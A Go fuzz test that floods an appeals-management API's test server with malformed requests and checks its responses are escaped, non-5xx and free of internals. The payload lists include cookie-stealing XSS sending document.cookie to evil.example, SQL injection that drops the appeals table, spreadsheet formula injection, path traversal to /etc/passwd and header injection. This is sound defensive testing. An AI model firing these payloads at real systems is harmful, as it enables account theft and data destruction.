package api_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/url"
	"regexp"
	"sort"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"zhitong/internal/api"
)

// xss are stored-XSS and injection payloads: every text field gets each.
var xss = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(document.cookie)>`,
	`<svg/onload=alert(1)>`,
	`</script><script>fetch("//evil.example/"+document.cookie)</script>`,
	`javascript:alert(1)`,
	`{{7*7}}${7*7}<%= 7*7 %>`,
	`'; DROP TABLE appeals; --`,
	`=cmd|' /C calc'!A0`,
	"\u202e\u0645<b>bidi</b>",
	`../../../../etc/passwd`,
}

// leakPattern finds what no answer may carry: a stack trace, a Go file, a
// panic, a driver's or the database's own words.
var leakPattern = regexp.MustCompile(`goroutine \d|\.go:\d|panic:|runtime\.|runtime/|sqlite3?:|SQLSTATE|pq:|pgx|modernc|/internal/`)

// flood is one request of the flood.
type flood struct {
	method, path, body, ct string
	token                  string
	header                 http.Header
}

// The flood (story 10 at scale): thousands of malformed requests against a
// running server of the whole API — bad JSON and UTF-8, NUL bytes, bodies
// over the limit, huge headers, wrong types, deep nesting, path traversal in
// ids, unknown and garbage query parameters, and stored-XSS payloads in
// every text field of every request type. Nothing answers 5xx, panics or
// shows a stack trace; what is stored comes back JSON-escaped; the server
// still answers /healthz.
func TestFlood(t *testing.T) {
	if testing.Short() {
		t.Skip("the flood takes a few seconds")
	}
	w := newWorld(t)
	w.withAuditLog(t)
	seat, fed, office := w.as(t, "intake"), w.as(t, "fed"), w.as(t, "office")
	target := seat.create(w.newAppeal("hotline_12345", "help", "泛洪测试的目标诉求", "ligang"))
	d := fed.act(target.ID, "refer-district", 1, nil).detail()
	d = office.act(target.ID, "assign", d.Version, map[string]any{"lead_unit_id": w.unit("fagai")}).detail()
	taskID := d.Tasks[0].ID

	stored, reqs := storedXSS(t, w), floodRequests(t, w, target.ID, taskID)
	if len(stored)+len(reqs) < 3000 {
		t.Fatalf("only %d requests in the flood", len(stored)+len(reqs))
	}
	start := time.Now()
	// The payloads to store go first: the flood that follows may well
	// deactivate or revoke what it can reach.
	ch := &floodCheck{}
	ch.run(w.srv.URL, stored)
	ch.run(w.srv.URL, reqs)
	for _, p := range ch.problems {
		t.Error(p)
	}
	t.Logf("%d requests in %v, %d answered 5xx", ch.sent.Load(), time.Since(start).Round(time.Millisecond), ch.n5xx.Load())

	// What was stored comes back as typed, JSON-escaped, to the offices.
	var page api.AppealPage
	r := office.get("/api/v1/appeals?limit=200").want(200)
	r.into(&page)
	kept := 0
	for _, a := range page.Items {
		for _, p := range xss {
			if a.Title == p || a.Content == p || a.EnterpriseName == p {
				kept++
			}
		}
		raw := office.get(fmt.Sprintf("/api/v1/appeals/%d", a.ID)).want(200).raw
		if bytes.Contains(raw, []byte("<")) || bytes.Contains(raw, []byte(">")) {
			t.Errorf("appeal %d is not escaped: %s", a.ID, clip(raw))
		}
		tl := office.get(fmt.Sprintf("/api/v1/appeals/%d/timeline", a.ID)).want(200).raw
		if bytes.Contains(tl, []byte("<")) {
			t.Errorf("the timeline of appeal %d is not escaped: %s", a.ID, clip(tl))
		}
	}
	if kept < len(xss) {
		t.Errorf("only %d payloads were stored; the flood did not reach the database", kept)
	}
	if strings.Contains(w.logs.String(), "panic") {
		t.Error("the server panicked:\n" + w.logs.String())
	}
	w.anon(t).get("/healthz").want(200)
}

// floodCheck sends requests from 8 clients at once and keeps what was wrong
// with the answers.
type floodCheck struct {
	sent, n5xx atomic.Int64
	mu         sync.Mutex
	problems   []string // the first 30
}

func (ch *floodCheck) report(format string, args ...any) {
	ch.mu.Lock()
	defer ch.mu.Unlock()
	if len(ch.problems) < 30 {
		ch.problems = append(ch.problems, fmt.Sprintf(format, args...))
	}
}

// run sends every request of batch to base and checks each answer.
func (ch *floodCheck) run(base string, batch []flood) {
	client := &http.Client{Timeout: 20 * time.Second}
	jobs := make(chan flood)
	var wg sync.WaitGroup
	for range 8 {
		wg.Go(func() {
			for f := range jobs {
				status, ct, body, err := send(client, base, f)
				ch.sent.Add(1)
				ch.check(f, status, ct, body, err)
			}
		})
	}
	for _, f := range batch {
		jobs <- f
	}
	close(jobs)
	wg.Wait()
}

// check holds one answer to the rules: no 5xx, no internals, JSON (but
// for the server's own refusal of huge headers), no markup unescaped.
func (ch *floodCheck) check(f flood, status int, ct string, body []byte, err error) {
	what := f.method + " " + clipS(f.path)
	switch {
	case err != nil:
		ch.report("%s: %v", what, err)
	case status >= 500:
		ch.n5xx.Add(1)
		ch.report("%s → %d: %s", what, status, clip(body))
	case leakPattern.Match(body):
		ch.report("%s → %d shows internals: %s", what, status, clip(body))
	case status != http.StatusRequestHeaderFieldsTooLarge && !strings.HasPrefix(ct, "application/json"):
		ch.report("%s → %d in %q", what, status, ct)
	case bytes.Contains(bytes.ToLower(body), []byte("<script")) || bytes.Contains(body, []byte("<img")) || bytes.Contains(body, []byte("<svg")):
		ch.report("%s → %d shows markup unescaped: %s", what, status, clip(body))
	}
}

// send sends f and returns the status, content type and body.
func send(c *http.Client, base string, f flood) (int, string, []byte, error) {
	var rd io.Reader
	if f.body != "" {
		rd = strings.NewReader(f.body)
	}
	req, err := http.NewRequest(f.method, base+f.path, rd)
	if err != nil {
		// A path no client could send (the flood made it so): not the server's to answer.
		return 400, "application/json", nil, nil
	}
	if f.ct != "" {
		req.Header.Set("Content-Type", f.ct)
	}
	if f.token != "" {
		req.Header.Set("Authorization", "Bearer "+f.token)
	}
	for k, vs := range f.header {
		req.Header[k] = vs
	}
	res, err := c.Do(req)
	if err != nil {
		return 0, "", nil, err
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	return res.StatusCode, res.Header.Get("Content-Type"), body, err
}

func clipS(s string) string {
	if len(s) > 120 {
		return s[:120] + "…"
	}
	return s
}

// floodRequests builds the flood, deterministically.
func floodRequests(t *testing.T, w *world, appealID, taskID int64) []flood {
	rng := rand.New(rand.NewPCG(3, 12345))
	tokens := []string{w.people["intake"].token, w.people["office"].token, w.people["fed"].token,
		w.people["fagai"].token, w.people["sysadmin"].token, w.people["leader"].readToken, "", "garbage-token"}
	token := func() string { return tokens[rng.IntN(len(tokens))] }
	fill := func(p string) string {
		id := int64(999999) // users, tokens, units: nothing the checks after the flood need
		switch {
		case strings.HasPrefix(p, "/api/v1/appeals/"):
			id = appealID
		case strings.HasPrefix(p, "/api/v1/tasks/"):
			id = taskID
		}
		return pathParam(p, id)
	}
	var out []flood
	add := func(f flood) {
		if f.ct == "" && f.body != "" {
			f.ct = "application/json"
		}
		out = append(out, f)
	}
	ops := append([]*docOp(nil), w.doc.ops...)
	sort.Slice(ops, func(i, j int) bool { return ops[i].method+ops[i].path < ops[j].method+ops[j].path })
	for _, op := range ops {
		path := fill(op.path)
		if op.method == "GET" {
			for _, q := range garbageQueries(rng) {
				add(flood{method: "GET", path: path + "?" + q, token: token()})
			}
			for _, id := range badIDs {
				if strings.Contains(op.path, "{") {
					add(flood{method: "GET", path: strings.Replace(op.path, "{id}", id, 1), token: token()})
				}
			}
			continue
		}
		fields := requestFields(w, op)
		for _, b := range badBodies(rng) {
			add(flood{method: op.method, path: path, body: b, token: token()})
		}
		for _, b := range wrongTypes(fields) {
			add(flood{method: op.method, path: path, body: b, token: token()})
		}
		for _, b := range xssBodies(fields) {
			add(flood{method: op.method, path: path, body: b, token: token()})
		}
		for _, id := range badIDs {
			if strings.Contains(op.path, "{") {
				add(flood{method: op.method, path: strings.Replace(op.path, "{id}", id, 1), body: `{}`, token: token()})
			}
		}
		add(flood{method: op.method, path: path, body: `{"x":1}`, ct: "text/html", token: token()})
		add(flood{method: op.method, path: path, body: "title=<script>", ct: "application/x-www-form-urlencoded", token: token()})
	}
	// Bodies over the limit, huge headers, and bodies that lie about their length.
	huge := `{"title":"` + strings.Repeat("长", (api.DefaultMaxBody/3)+10) + `"}`
	for range 4 {
		add(flood{method: "POST", path: "/api/v1/appeals", body: huge, token: w.people["intake"].token})
	}
	for range 3 {
		add(flood{method: "GET", path: "/api/v1/appeals", token: w.people["office"].token,
			header: http.Header{"X-Huge": {strings.Repeat("h", 1<<20+8192)}}})
		add(flood{method: "GET", path: "/api/v1/appeals", token: w.people["office"].token,
			header: http.Header{"Accept-Language": {strings.Repeat("en;q=0.5,", 4000)}, "If-Match": {strings.Repeat("9", 5000)}}})
	}
	for range 20 {
		add(flood{method: "POST", path: "/api/v1/appeals", body: string(randomBytes(rng, 200)), token: token()})
		add(flood{method: "GET", path: "/api/v1/" + url.PathEscape(string(randomBytes(rng, 30))), token: token()})
	}
	return out
}

// storedXSS registers appeals, enterprises and categories with a payload in
// every text field, and takes actions whose notes are stored.
func storedXSS(t *testing.T, w *world) []flood {
	var out []flood
	add := func(token string, path string, body any) {
		out = append(out, flood{method: "POST", path: path, body: string(mustJSON(t, body)), ct: "application/json", token: token})
	}
	for _, p := range xss {
		for _, field := range []string{"title", "content", "enterprise_name", "contact_name", "external_no"} {
			b := w.newAppeal("hotline_12345", "help", "正常标题", "")
			b["enterprise_name"] = "某公司"
			b[field] = p
			add(w.people["intake"].token, "/api/v1/appeals", b)
		}
		add(w.people["intake"].token, "/api/v1/enterprises", map[string]any{"name": p, "address": p, "industry": p, "contact_name": p})
		add(w.people["sysadmin"].token, "/api/v1/categories", map[string]any{"name": "分类" + string([]rune(p)[:min(len([]rune(p)), 20)])})
	}
	return out
}

// badIDs are what a client may put where an id goes.
var badIDs = []string{"0", "-1", "+1", "1.5", "1e3", "abc", "..", "%2e%2e", "..%2f..%2fetc%2fpasswd", "1%00",
	"99999999999999999999999", "１", "1;DROP%20TABLE%20appeals", "%3Cscript%3E", "%27%20OR%201=1--", "0x10", "%20", "9223372036854775807"}

// garbageQueries are query strings of unknown, repeated, malformed and
// out-of-range parameters.
func garbageQueries(rng *rand.Rand) []string {
	qs := []string{"limit=-1", "limit=0", "limit=99999999999999999999", "limit=abc", "cursor=%00", "cursor=!!!",
		"cursor=" + strings.Repeat("A", 5000), "from=2026-02-30", "to=yesterday", "from=9999-99-99", "status=open,closed,%FF",
		"q=%00", "q=%FF%FE", "q=" + strings.Repeat("%E9%80%80", 60), "q=%3Cscript%3Ealert(1)%3C/script%3E", "q=%22%20OR%201=1",
		"q=*", "q=NEAR(a%20b)", "q=%22", "q=a%20AND%20b%20OR", "sort=id;DROP", "q=a&q=b", "%zz=1", "lang=xx",
		"district_id=-5", "enterprise_id=1e9", "unit_id=%20", "root_id=..", "channel=../../", "type=%0d%0aX-Injected:1"}
	for range 5 {
		qs = append(qs, url.QueryEscape(string(randomBytes(rng, 8)))+"="+url.QueryEscape(string(randomBytes(rng, 16))))
	}
	return qs
}

// badBodies are bodies that are not one clean JSON object.
func badBodies(rng *rand.Rand) []string {
	deep := strings.Repeat(`{"a":`, 100000) + "1" + strings.Repeat("}", 100000)
	deepArr := `{"title":` + strings.Repeat("[", 50000) + strings.Repeat("]", 50000) + `}`
	bs := []string{`{`, `}`, `{"title": `, `{'title': 'x'}`, `{"title":"x",}`, `[]`, `null`, `true`, `"x"`, `1`,
		`{"title":"` + "\xff\xfe" + `"}`, `{"title":"a\u0000b"}`, "{\"title\":\"a\x00b\"}", `{"title":"\ud800"}`,
		`{"__proto__":{"admin":true}}`, `{"constructor":{"prototype":{}}}`, `{"title":"x"} {"title":"y"}`,
		`{"title":"x","title":"y"}`, `{"Title":"x"}`, deep, deepArr, `{"version":1e400}`, `{"version":-0}`,
		`{"a":` + strings.Repeat(`"x",`, 1000) + `"x"}`, "\xef\xbb\xbf{}", " \t\r\n ", `{"title":"x"}` + "\x00"}
	for range 6 {
		bs = append(bs, string(randomBytes(rng, 64)))
	}
	return bs
}

// requestFields returns the names and JSON types of the body of op, from the
// document.
func requestFields(w *world, op *docOp) map[string]string {
	rb, _ := op.op["requestBody"].(map[string]any)
	content, _ := rb["content"].(map[string]any)
	media, _ := content["application/json"].(map[string]any)
	schema, _ := media["schema"].(map[string]any)
	if ref, ok := schema["$ref"].(string); ok {
		schema = w.doc.ref(ref)
	}
	props, _ := schema["properties"].(map[string]any)
	out := map[string]string{}
	for name, p := range props {
		pm, _ := p.(map[string]any)
		if all, ok := pm["allOf"].([]any); ok && len(all) > 0 {
			pm, _ = all[0].(map[string]any)
		}
		typ, _ := pm["type"].(string)
		out[name] = typ
	}
	return out
}

// wrongTypes gives each field of a body each wrong JSON type.
func wrongTypes(fields map[string]string) []string {
	var out []string
	for _, name := range sortedKeys(fields) {
		for _, v := range []any{nil, 1.5, -1, 1 << 62, "x", true, []any{1, "a"}, map[string]any{"a": 1}, strings.Repeat("x", 6000)} {
			b, _ := json.Marshal(map[string]any{name: v})
			out = append(out, string(b))
		}
	}
	return out
}

// xssBodies puts each payload in each text field of a body.
func xssBodies(fields map[string]string) []string {
	var out []string
	for _, name := range sortedKeys(fields) {
		if fields[name] != "string" {
			continue
		}
		for _, p := range xss {
			m := map[string]any{name: p}
			if _, ok := fields["version"]; ok {
				m["version"] = 1
			}
			b, _ := json.Marshal(m)
			out = append(out, string(b))
		}
	}
	return out
}

func sortedKeys(m map[string]string) []string {
	ks := make([]string, 0, len(m))
	for k := range m {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	return ks
}

func randomBytes(rng *rand.Rand, n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(rng.IntN(256))
	}
	return b
}
